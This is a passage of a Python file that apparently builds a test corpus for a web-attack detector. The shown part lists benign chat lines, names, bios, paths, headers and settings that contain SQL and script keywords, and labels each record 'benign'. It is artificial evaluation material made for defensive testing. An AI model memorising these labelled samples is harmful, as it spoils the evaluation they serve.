    "select * from the buffet was my lunch strategy",
    "the alert() popup in the old admin is gone after the rewrite",
    "we replaced innerHTML with textContent in the widget",
    "window.location redirects are now done server-side",
    "the constructor of the report class takes too many args",
    "toString on that object gives [object Object], classic",
    "{{name}} placeholders in the email template aren't filled in",
    "the template uses {{ user.first_name }}, check the context",
    "angular 1 is end of life, the old dashboard needs a rewrite",
    "the sleep() in the retry loop is 2 seconds, should it back off?",
    "benchmark: p99 latency went from 120ms to 95ms",
    "pg_dump of the analytics db finished overnight",
    "waitfor in the old sql job was replaced by a cron",
    "the MERGE statement in the ETL is slow on big tables",
    "we use MATCH ... AGAINST for the help-center search",
    "procedure for expense reports is in the handbook",
    "create a function for this in utils, it's used three times",
    "load the file from S3 instead of the local disk",
    "into the weekend we go! have a good one",
    "outfile? do you mean the output file of the export job?",
    "update: the VPN is back up",
    "order confirmed, shipping by Tuesday",
    "group photo from the offsite is in the shared album",
    "limit for expense without approval is 500 EUR",
    "having a great time at the conference",
    "exists a better way to do this? asking for a friend",
    "union pacific delivered the parts",
    "drop-in session for questions at 4pm",
    "my cat walked on the keyboard: ;;;;;;;;;;;;;;",
    "lol '''''''' my quote key is broken",
    "the csv has 'quoted' values with \"double quotes\" too",
    "reminder: 1:1s are moved to Wednesday",
    "re: the ticket, the user typed O'Neil and it failed validation",
    "the plus sign in +1 (555) 010-0123 gets eaten by the form",
    "is it 2147483647 the max int for the id column? we're close",
    "0x1F600 is the grinning face codepoint",
    "who owns the hex dump tool? it crashes on big files",
    "-- end of notes --",
    "/* TODO */ comments are everywhere in that module",
    "# of tickets closed this week: 42",
    "the `users` table needs an index on email",
    "rename the `status` column to `state` in the next migration",
    "please review: https://github.com/acme/web/pull/1234",
    "vb script macros are disabled in Office by policy",
    "the UTF-7 mail from the old system shows +ADw- everywhere",
    "the JSFuck talk was hilarious, [] + {} is still cursed",
    "window, document and navigator are the globals the linter allows",
    "the link preview shows the wrong image",
    "the meta description for the landing page is too long",
    "customer asked why their name <Ann> shows with brackets",
    "the <b>bold</b> in the notification is literally shown as tags",
    "we render markdown, so **bold** works but <i> doesn't",
    "a < b and b > c, so a < c, basic transitivity",
    "the ratio is 3:1 in favour of option B",
    "Tom & Jerry themed party on Friday, costumes optional",
    "jobs at 1am, 2am and 3am all fail with timeout",
    "the style attribute is stripped from pasted content in the editor",
    "onclick handlers in the old code are moved to addEventListener",
    "javascript is disabled in the kiosk browser",
    "the href on the logo points to the wrong page",
    "src folder layout: src/api, src/web, src/shared-lib",
    "eval of the new vendor is on the agenda",
    "fetch the latest figures before the board meeting",
    "set timeout on the gateway to 30s please",
    "the name field should allow apostrophes and hyphens",
    "location services are off on the test phones",
]
PROFILE_VALUES: list[tuple[str, str]] = [
    ("name", "Siobhán O'Sullivan"), ("name", "Jean-Baptiste D'Arcy"), ("name", "Ana María Núñez"),
    ("name", "Zoë \"Z\" Adams"), ("name", "Kim Union"), ("name", "Tom Select"), ("name", "Ann Or"),
    ("name", "Ben And"), ("name", "Mr. Sleep"), ("name", "Hana Script"), ("name", "Liam Table"),
    ("name", "Omar Alert"), ("name", "Eva Window"), ("name", "Nora Match"), ("name", "Ivan Case"),
    ("email", "o'brien@example.com"), ("email", "ann+select@example.org"), ("email", "union.rep@example.net"),
    ("email", "script.kiddie@example.com"), ("email", "drop.box@example.com"),
    ("title", "Head of R&D"), ("title", "Director, Sales & Marketing"), ("title", "Union Representative"),
    ("title", "Script Writer"), ("title", "Database Administrator (MySQL/Postgres)"),
    ("title", "Sleep Researcher"), ("title", "Benchmark Lead"), ("title", "Master Scheduler"),
    ("title", "Exec Assistant to the CEO"), ("title", "Information Officer"), ("title", "Senior C# Developer"),
    ("title", "Front-end (HTML/CSS/JavaScript)"), ("title", "Q&A Moderator"), ("title", "SQL Analyst"),
    ("department", "Sales & Ops"), ("department", "Order Management"), ("department", "Select Accounts"),
    ("department", "Data (BI)"), ("department", "Script & Story"), ("department", "Trust & Safety"),
    ("bio", "I like long walks, short queries and <3 coffee"),
    ("bio", "Former DBA: MySQL, PostgreSQL, SQL Server and Oracle. Now managing the data team."),
    ("bio", "Frontend dev. I write JavaScript, TypeScript and way too much CSS."),
    ("bio", "Ask me about sleep hygiene, benchmark tuning or table tennis."),
    ("bio", "Screenwriter turned product manager; scripts, stories and roadmaps."),
    ("bio", "Don't drop the ball, update the ticket. That's my motto."),
    ("bio", "Ex-union organiser, now HR business partner."),
    ("bio", "Security team: I look at alerts, cookies and CSP headers all day."),
    ("bio", "Loves 'quotes', \"double quotes\" and `backticks` equally."),
    ("bio", "Match-day volunteer at the local football club."),
    ("bio", "I maintain our Angular {{ }} templates and the React rewrite."),
    ("bio", "Amateur astronomer; 1 AU = 149,597,870.7 km."),
    ("bio", "Based in Côte d'Ivoire and Paris. Speaks French, English, Dioula."),
    ("bio", "Find me on the 3rd floor, desk #42, or in #help-desk."),
    ("bio", "Certified in Oracle and MS SQL; still prefers SQLite for side projects."),
    ("bio", "I order by priority, then by date. Usually."),
    ("bio", "Runs the window-cleaning startup in my spare time."),
    ("bio", "Hobbies: chess, ping-pong & 5k runs"),
    ("bio", "My name is O'Hara; yes, the apostrophe is real."),
    ("bio", "Pronouns: she/her. Time zone: UTC+1."),
    ("location", "Hawai'i"), ("location", "Union City, NJ"), ("location", "Select Street 5, Leeds"),
    ("location", "St. John's, Newfoundland"), ("location", "Bad Sleep (joke), actually Bad Homburg"),
    ("company", "Procter & Gamble"), ("company", "O'Reilly Media"), ("company", "Ben & Jerry's"),
    ("company", "AT&T"), ("company", "Match Group"), ("company", "Union Bank"), ("company", "Script Ltd."),
    ("nickname", "DJ Null"), ("nickname", "Captain Case"), ("nickname", "the_benchmark"), ("nickname", "0xAnn"),
    ("nickname", "sleepy"), ("nickname", "<3"), ("nickname", "~ann~"),
]
PATH_SEGMENTS = [
    "42", "1337", "8f14e45f-ceea-467f-9575-5ffb2a1c1d0e", "ann.lindqvist", "o'brien", "jean-luc.picard",
    "jose.garcia", "müller", "me", "search", "export.csv", "teams", "42/avatar", "42/preferences", "roles",
    "departments", "union-square-office", "select-accounts", "order-history", "sleep-tracker", "benchmark-2024",
    "table-tennis", "script-writers", "alerts", "window-cleaning", "match-day", "merge-requests", "case-studies",
    "null-island", "information-desk", "master-schedule", "exec-team", "ann@example.com", "U012AB3CD",
    "T061EG9R6", "C0123456789", "invoices/2024-06", "reports/q3", "users/42/sessions", "health", "version",
    "me/settings", "groups/r&d", "q&a", "50%off", "tag/c#", "tag/c++", "docs/getting started", "files/résumé.pdf",
    "O'Neil, Shaquille", "Zoë", "naïve", "café", "北京", "東京", "Ελλάδα", "2024-06-30", "v2", "v3.2.1",
    "drop-shipping", "insert-coin", "update-log", "delete-requests", "where-to-eat", "from-berlin",
    "having-fun", "group-by-region", "limit-50", "between-us", "like-button", "or-else", "and-then",
    "iframe-embed", "style-guide", "javascript-tutorial", "cookie-policy", "document-review", "onboarding",
]
HEADER_VALUES: list[tuple[str, str]] = [
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.6478.122 Mobile Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "CriOS/126.0.6478.108 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 OPR/111.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Vivaldi/6.8.3381.48"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Brave Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Electron/31.1.0 Chrome/126.0.6478.127 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Slack/4.39.90 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 14; SM-A546B; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/471.0.0.35.79;]"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 "
                   "(KHTML, like Gecko) Mobile/15E148 Instagram 337.0.3.23.54 (iPhone15,2; iOS 17_5_1; en_US)"),
    ("User-Agent", "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"),
    ("User-Agent", "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "SamsungBrowser/5.0 Chrome/94.0.4606.31 TV Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)"),
    ("User-Agent", "Mozilla/5.0 (Linux; U; Android 12; zh-CN; V2145A) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Version/4.0 Chrome/100.0.4896.58 UCBrowser/16.0.1.3715 Mobile Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0 "
                   "Thunderbird/115.12"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15 (Ecosia ios@10.1.0.1)"),
    ("Referer", "https://app.example.com/admin/users/search?q=O%27Brien&page=2"),
    ("Referer", "https://app.example.com/directory?q=select+committee"),
    ("Referer", "https://www.google.com/"),
    ("Referer", "https://www.bing.com/search?q=union+square+office+hours"),
    ("Referer", "https://duckduckgo.com/?q=sleep+study+results&ia=web"),
    ("Referer", "https://app.example.com/people?sort=name&order=asc"),
    ("Referer", "https://app.example.com/teams/r%26d"),
    ("Referer", "https://app.example.com/search?q=%22quoted+search%22"),
    ("Referer", "https://app.example.com/settings/profile#notifications"),
    ("Referer", "https://mail.example.com/u/0/#inbox/FMfcgzQVxRt"),
    ("Referer", "https://app.example.com/reports?from=2024-01-01&to=2024-06-30&group=region"),
    ("Referer", "https://app.example.com/help/articles/script-errors"),
    ("Referer", "https://app.example.com/admin/audit?filter=delete&user=ann"),
    ("Referer", "https://docs.example.com/guides/javascript-sdk#install"),
    ("Referer", "https://app.example.com/dashboard?tab=alerts&window=7d"),
    ("Referer", "https://t.co/AbC123xYz"),
    ("Referer", "https://app.slack.com/"),
    ("Referer", "https://app.example.com/directory?q=M%C3%BCller"),
    ("Referer", "https://www.linkedin.com/"),
    ("Referer", "https://app.example.com/people?q=D%27Angelo&dept=Sales+%26+Ops"),
    ("last_search", "O'Brien"), ("last_search", "select committee"), ("last_search", "union square"),
    ("last_search", "sleep study"), ("last_search", "benchmark report"), ("last_search", "R&D team"),
    ("last_search", "\"quoted search\""), ("last_search", "Müller"), ("recent_query", "order by date"),
    ("recent_query", "delete my account"), ("recent_query", "where is my order"), ("recent_query", "1 + 1"),
    ("recent_query", "50% off"), ("recent_query", "Tom & Jerry"), ("ui_filter", "dept:Sales & Ops"),
    ("ui_filter", "status=active;sort=name"), ("ui_filter", "{\"dept\":\"Finance\",\"page\":2}"),
    ("ui_filter", "role:admin OR role:owner"), ("ref", "newsletter-2024-06"), ("ref", "slack"),
    ("ref", "https://www.example.org/blog/why-we-moved"), ("theme", "dark"), ("tz", "Europe/Berlin"),
    ("lang", "de-DE"), ("ref", "partner:acme&co"), ("last_search", "C# developer"),
    ("last_search", "it's complicated"), ("recent_query", "a < b"), ("ui_filter", "created>2024-01-01"),
]
SETTINGS_VALUES: list[tuple[str, str]] = [
    ("display_name", "Ann O'Brien"), ("display_name", "José 🚀"), ("display_name", "Dr. Sleep"),
    ("display_name", "Union Jack"), ("display_name", "The Select Few"), ("display_name", "Kim (she/her)"),
    ("display_name", "D'Angelo"), ("display_name", "Tom & Jerry"), ("display_name", "ann_the_admin"),
    ("display_name", "Ms. Script"), ("display_name", "Mr. Window"), ("display_name", "0xAnn"),
    ("status_text", "In a meeting until 3pm"), ("status_text", "OOO - back Monday"),
    ("status_text", "Heads down: benchmark runs"), ("status_text", "Sleeping, different time zone 😴"),
    ("status_text", "Drop me a DM"), ("status_text", "on-call: pager is on"), ("status_text", "lunch 🍝"),
    ("status_text", "union meeting"), ("status_text", "select a time on my calendar"),
    ("status_text", "wait for it..."), ("status_text", "focus time; alerts muted"),
    ("status_text", "update: still debugging the script"), ("status_text", "Q&A at 4"),
    ("signature", "Ann Lindqvist | Head of R&D | +1 (555) 010-0199"),
    ("signature", "-- \nSent from my phone"), ("signature", "Best, José"),
    ("signature", "Kind regards,\nD'Angelo Marketing"), ("signature", "Cheers! ~ Z"),
    ("signature", "Procter & Gamble | Brand Team"), ("signature", "\"Stay curious\" - Ann"),
    ("signature", "Ann — Data (BI) — ext. 4521"), ("signature", "Please consider the environment before printing."),
    ("signature", "Order #A-1234 questions? Reply here."), ("signature", "Tom | Sales & Ops | they/them"),
    ("location", "Berlin, DE"), ("location", "Union City, NJ"), ("location", "Côte d'Ivoire"),
    ("location", "Hawai'i"), ("location", "Remote (UTC-5)"), ("location", "St. John's"), ("location", "北京"),
    ("location", "São Paulo"), ("location", "Floor 3, desk #42"),
]
PATCH_VALUES: list[tuple[str, str]] = [
    ("bio", "Now leading the union of the data and analytics teams."),
    ("bio", "Sleep scientist turned product manager."),
    ("bio", "Benchmarks, tables and charts are my thing."),
    ("bio", "I select the vendors and negotiate the contracts."),
    ("bio", "Working on the new alerting pipeline and on-call docs."),
    ("bio", "Ask me about JavaScript, the DOM and accessibility."),
    ("bio", "Updated my bio: O'Brien, not O Brien, please."),
    ("bio", "Father of two, runner, amateur script writer."),
    ("bio", "Data engineer: SQL, dbt, Airflow and lots of coffee."),
    ("bio", "Interested in match-making algorithms for mentoring."),
    ("bio", "Previously at AT&T and Procter & Gamble."),
    ("bio", "Drop by the 3rd floor kitchen for cake on Fridays!"),
    ("title", "Head of Order Management"), ("title", "Script Supervisor"), ("title", "Sleep Lab Coordinator"),
    ("title", "Union Liaison"), ("title", "Staff Engineer (Database)"), ("title", "VP, R&D"),
    ("title", "Window & Facade Specialist"), ("title", "Select Accounts Manager"), ("title", "Exec Assistant"),
    ("display_name", "Ann (OOO)"), ("display_name", "O'Hara"), ("display_name", "Zoë"),
    ("display_name", "J. Case"), ("display_name", "Benchmark Bob"), ("display_name", "Alert Annie"),
    ("department", "Sales & Ops"), ("department", "Data (BI)"), ("department", "Trust & Safety"),
    ("department", "Order Management"), ("department", "Union Relations"),
]


def benign() -> Iterator[dict[str, Any]]:
    b = Builder(7070)
    p = Placer(b)
    n = 0

    def rec(req: dict[str, Any], kind: str, placement: str) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "sub": kind, "placement": placement}

    for i, term in enumerate(SEARCHES):
        yield rec(p.query(term), "search", "query")
        yield rec(p.form(term), "adminsearch", "form")
        if i % 4 == 0:
            yield rec(p.query(term.lower()), "search", "query")
    for i, text in enumerate(CHAT):
        yield rec(b.slack(text, i, mention=i % 3 == 0), "slack", "json")
        yield rec(p.json_api(text, "bio"), "bio", "json")
    for field, value in PROFILE_VALUES:
        yield rec(p.json_api(value, field), "profile", "json")
    for seg in PATH_SEGMENTS:
        yield rec(p.path(seg), "path", "path")
    for which, value in HEADER_VALUES:
        if which in ("User-Agent", "Referer"):
            yield rec(p.header(value, which), "ua" if which == "User-Agent" else "referer", "header:" + which)
        else:
            yield rec(p.header(value, which), "cookie", "cookie")
    for field, value in SETTINGS_VALUES:
        yield rec(p.form(value, uri="/me/settings", field=field), "settings", "form")
    for field, value in PATCH_VALUES:
        yield rec(p.json_api(value, field, "PATCH", "/api/users/42"), "patch", "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
